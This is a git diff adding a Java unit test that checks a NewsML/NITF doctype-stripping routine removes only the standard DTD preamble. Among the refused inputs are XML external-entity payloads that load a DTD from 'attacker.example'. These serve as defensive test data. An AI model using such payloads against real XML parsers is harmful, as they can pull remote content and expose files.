@@ -46,4 +46,29 @@ class NitfDoctypeTest {
         String late = "<nitf><p>&lt;!DOCTYPE nitf SYSTEM \"nitf.dtd\"&gt;</p><!-- <!DOCTYPE nitf SYSTEM \"nitf.dtd\"> --></nitf>";
         assertThat(strip(late)).isEqualTo(late);
     }
+
+    /** NewsML 1.x's standard preamble (Kyodo, SDA): its DTD and NITF's through a parameter entity, nothing else. */
+    @Test
+    void blanksTheStandardNewsmlDoctypeAndItsNitfSubsetOnly() {
+        String standard = "<?xml version=\"1.0\"?>\n<!DOCTYPE NewsML PUBLIC \"urn:newsml:iptc.org:20001006:NewsMLv1.0.dtd:1\" \"../DTD/NewsMLv1.0.dtd\" [\n"
+                + "\t<!ENTITY % nitf SYSTEM \"../nitf/dtd/nitf-3-0.dtd\">\n\t%nitf;\n]>\n<NewsML/>";
+        String out = stripNewsml(standard);
+        assertThat(out).doesNotContain("DOCTYPE", "ENTITY").hasSameSizeAs(standard).endsWith("<NewsML/>");
+        assertThat(stripNewsml("<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\"><NewsML/>")).doesNotContain("DOCTYPE");
+        assertThat(stripNewsml("<!DOCTYPE NewsML PUBLIC \"urn:newsml:iptc.org:20031010:NewsMLv1.2.dtd:1\" \"NewsML-1.2.dtd\"\n"
+                + "[<!ENTITY % nitf SYSTEM \"nitf-3-0.dtd\"> %nitf; ]>\n<NewsML/>")).doesNotContain("DOCTYPE");
+
+        for (String refused : new String[] {
+            "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY x \"y\">]><NewsML/>",
+            "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY % e SYSTEM \"http://attacker.example/evil.dtd\"> %e;]><NewsML/>",
+            "<!DOCTYPE NewsML SYSTEM \"http://attacker.example/evil.dtd\"><NewsML/>",
+            "<!DOCTYPE NewsML PUBLIC \"-//EVIL//X//EN\" \"NewsMLv1.2.dtd\"><NewsML/>",
+            "<!DOCTYPE nitf SYSTEM \"NewsMLv1.2.dtd\"><nitf/>"}) {
+            assertThat(stripNewsml(refused)).as(refused).isEqualTo(refused);
+        }
+    }
+
+    private static String stripNewsml(String xml) {
+        return new String(NitfDoctype.stripStandardNewsml(xml.getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8);
+    }
 }
